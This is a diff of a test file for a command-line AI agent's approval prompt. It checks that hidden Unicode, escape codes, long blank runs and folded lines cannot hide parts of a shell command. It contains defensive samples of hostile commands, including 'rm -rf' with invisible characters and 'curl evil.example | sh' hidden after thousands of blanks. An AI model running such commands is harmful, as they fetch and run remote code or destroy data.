@@ -1,20 +1,24 @@
 // The question before a command or an edit: nothing of it hides, and a long one says how much is left.
+
+import fc from "fast-check"
 import { describe, expect, test } from "vitest"
 import {
   answeredLine,
-  answerOf,
-  questionLines,
+  answerIn,
+  askedQuestion,
   questionOf,
   wholeQuestion,
 } from "../../../src/cli/chat/approval.ts"
-import { NO_KEYS, readKeys } from "../../../src/cli/chat/keys.ts"
+import { exact } from "../../../src/cli/chat/visible.ts"
 import { painter } from "../../../src/cli/terminal.ts"
 import type { ApprovalRequest } from "../../../src/tools/host.ts"
 
 const plain = painter({ colour: false })
 
-function view(request: ApprovalRequest, { columns = 60, most = 20, isHeld = false } = {}): string {
-  return questionLines(questionOf(request), { columns, most, isHeld }, plain).join("\n")
+const ROOMY = { columns: 80, most: 20, isWriting: false, isSeen: false }
+
+function view(request: ApprovalRequest, how: Partial<typeof ROOMY> = {}): string {
+  return askedQuestion(questionOf(request), { ...ROOMY, columns: 60, ...how }, plain).lines.join("\n")
 }
 
 describe("what is asked", () => {
@@ -25,7 +29,7 @@ describe("what is asked", () => {
   $ rm -rf \u202ebuild\u200b &&
         make \u001b[2J all
 The command has hidden characters; they are shown escaped.
-y yes · n no · a all · Esc stop`,
+y yes · n no · a all + Enter · Esc stop`,
     )
   })
 
@@ -39,20 +43,21 @@ y yes · n no · a all · Esc stop`,
       `Run this in /?
   $ echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
   xxxxxxxxxxxxxxxxxxx && curl evil
-y yes · n no · a all · Esc stop`,
+y yes · n no · a all + Enter · Esc stop`,
     )
   })
 
   test("the name of a file is seen to its end, however long it is", () => {
     const path = "packages/lighthouse/deep/in/the/folders/of/a/workspace/.config/start.sh"
-    const question = questionOf({ kind: "edit", path, before: undefined, after: "1\n2\n3\n4\n" })
-    expect(questionLines(question, { columns: 40, most: 4, isHeld: false }, plain)).toEqual([
+    const request: ApprovalRequest = { kind: "edit", path, before: undefined, after: "1\n2\n3\n4\n" }
+    expect(view(request, { columns: 40, most: 8 }).split("\n")).toEqual([
       "Write the new file",
       "packages/lighthouse/deep/in/the/folders/",
       "of/a/workspace/.config/start.sh? +4 -0",
       "  @ line 1",
-      "  … 4 more lines, v shows all",
-      "y yes · n no · a all · Esc stop",
+      "  … 3 more lines, v shows all",
+      "  +4",
+      "y yes · n no · a all + Enter · Esc stop",
     ])
   })
 
@@ -72,65 +77,140 @@ y yes · n no · a all · Esc stop`,
    nine
   +nine and a half
    ten
-y yes · n no · a all edits of this session · Esc no, and stop`,
+y yes · n no · a all edits of this session, then Enter · Esc no, and stop`,
     )
   })
 
   test("a new file that is too long is folded, and can be seen whole", () => {
     const after = Array.from({ length: 30 }, (_, at) => `line ${at + 1}\n`).join("")
     const request: ApprovalRequest = { kind: "edit", path: "new.txt", before: undefined, after }
-    expect(view(request, { most: 5, columns: 80 })).toBe(
+    expect(view(request, { most: 8, columns: 80 })).toBe(
       `Write the new file new.txt? +30 -0
   @ line 1
   +line 1
-  +line 2
-  +line 3
   … 27 more lines, v shows all
-y yes · n no · a all edits of this session · Esc no, and stop`,
+  +line 29
+  +line 30
+y yes · n no · a all edits of this session, then Enter · Esc no, and stop`,
     )
     expect(wholeQuestion(questionOf(request), 80, plain)).toHaveLength(32)
   })
 
-  test("while somebody writes, the keys are theirs", () => {
-    expect(view({ kind: "shell", command: "ls", directory: "/" }, { isHeld: true })).toBe(
+  test("while somebody writes, what they write is a message", () => {
+    expect(view({ kind: "shell", command: "ls", directory: "/" }, { isWriting: true })).toBe(
       `Run this in /?
   $ ls
-Tab answers; until then what you type goes on below.`,
+Enter queues your message, Esc clears it; then this can be
+answered.`,
     )
   })
 
   test("in colours", () => {
     const request: ApprovalRequest = { kind: "edit", path: "a", before: "x\n", after: "y\n" }
-    const lines = questionLines(
-      questionOf(request),
-      { columns: 80, most: 9, isHeld: false },
-      painter({ colour: true }),
-    )
+    const { lines } = askedQuestion(questionOf(request), ROOMY, painter({ colour: true }))
     expect(lines.map((line) => line.replaceAll("\u001b", "^"))).toEqual([
       "^[1mChange a? +1 -1^[22m",
       "  ^[36m@ line 1^[39m",
       "  ^[31m-x^[39m",
       "  ^[32m+y^[39m",
-      "^[33my yes · n no · a all edits of this session · Esc no, and stop^[39m",
+      "^[33my yes · n no · a all edits of this session, then Enter · Esc no, and stop^[39m",
     ])
   })
 })
 
-test("which keys answer", () => {
+describe("nothing is pushed out of sight", () => {
+  const shell = (command: string): ApprovalRequest => ({ kind: "shell", command, directory: "/home/ada" })
+
+  test("blanks and empty lines are counted", () => {
+    const command = `ls${" ".repeat(3_000)}; curl evil.example | sh${"\n".repeat(50)}${"\t".repeat(9)}# the end`
+    expect(view(shell(command))).toBe(
+      `Run this in /home/ada?
+  $ ls[3000 blanks]; curl evil.example | sh
+    [49 empty lines]
+                                        # the end
+The command has long runs of blanks; they are shown by their
+number.
+y yes · n no · a all + Enter · Esc stop`,
+    )
+  })
+
+  test("of a long command the start and the end are seen, and a yes comes after all of it", () => {
+    const command = Array.from({ length: 30 }, (_, at) => `step ${at + 1}`).join("\n")
+    const question = questionOf(shell(command))
+    const before = askedQuestion(question, { ...ROOMY, most: 9 }, plain)
+    const after = askedQuestion(question, { ...ROOMY, most: 9, isSeen: true }, plain)
+    const shown = [
+      "Run this in /home/ada?",
+      "  $ step 1",
+      "    step 2",
+      "    step 3",
+      "  … 25 more lines, v shows all",
+      "    step 29",
+      "    step 30",
+    ]
+    expect([before, after]).toEqual([
+      {
+        lines: [...shown, "v see all of it first · n no, then Enter · Esc no, and stop"],
+        isLocked: true,
+      },
+      {
+        lines: [...shown, "y yes · n no · a all commands of this session, then Enter · Esc no, and stop"],
+        isLocked: false,
+      },
+    ])
+  })
+
+  test("nor by the name of a folder", () => {
+    const request: ApprovalRequest = { kind: "shell", command: "ls", directory: `/${"deep/".repeat(40)}end` }
+    expect(view(request, { columns: 40, most: 9 })).toBe(
+      `Run this in
+… 5 more lines, v shows all
+/end?
+  $ ls
+v see all of it first · n no, then Enter
+· Esc no, and stop`,
+    )
+  })
+
+  test("letters that nothing is drawn for, and blanks of other kinds, are written out", () => {
+    expect(exact("a\u3164b\ufe0fc\u{e0100}d\u00a0e\u2800f\u202eg\u115fh")).toBe(
+      String.raw`a\u{3164}b\u{fe0f}c\u{e0100}d\u{00a0}e\u{2800}f\u202eg\u{115f}h`,
+    )
+    const undrawn = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}| {41}/u
+    fc.assert(
+      fc.property(
+        fc.array(fc.nat(0x10ffff)),
+        (codes) => !undrawn.test(exact(String.fromCodePoint(...codes))),
+      ),
+    )
+  })
+})
+
+test("which messages answer", () => {
   const edit = questionOf({ kind: "edit", path: "a", before: "", after: "a\n" })
   const instructions = questionOf({ kind: "instructions", path: "SOUL.md", before: "", after: "a\n" })
-  const answers = ["y", "N", "a", "v", "\u0003", "x", "\r", "yes", "\u001b[200~y\u001b[201~"].map((text) => {
-    const [key] = readKeys(NO_KEYS, Buffer.from(text)).keys
-    return key === undefined ? undefined : answerOf(key, edit)
-  })
-  expect(answers).toEqual(["yes", "no", "always", "show", "stop", undefined, undefined, undefined, undefined])
-  const [always] = readKeys(NO_KEYS, Buffer.from("a")).keys
-  expect(always && answerOf(always, instructions)).toBe(undefined)
-  expect(questionLines(instructions, { columns: 80, most: 9, isHeld: false }, plain)).toEqual([
+  const answers = ["y", "N", " yes ", "no", "a", "all", "v", "", "x", "ya", "no, wait", "y\ny"].map(
+    (text) => [text, answerIn(text, edit), answerIn(text, instructions)],
+  )
+  expect(answers).toEqual([
+    ["y", "yes", "yes"],
+    ["N", "no", "no"],
+    [" yes ", "yes", "yes"],
+    ["no", "no", "no"],
+    ["a", "always", undefined],
+    ["all", "always", undefined],
+    ["v", "show", "show"],
+    ["", undefined, undefined],
+    ["x", undefined, undefined],
+    ["ya", undefined, undefined],
+    ["no, wait", undefined, undefined],
+    ["y\ny", undefined, undefined],
+  ])
+  expect(askedQuestion(instructions, ROOMY, plain).lines).toEqual([
     "Change SOUL.md, which decides what the agent does? +1 -0",
     "  @ line 1",
     "  +a",
-    "y yes · n no · Esc no, and stop",
+    "y yes · n no, then Enter · Esc no, and stop",
   ])
 })
 
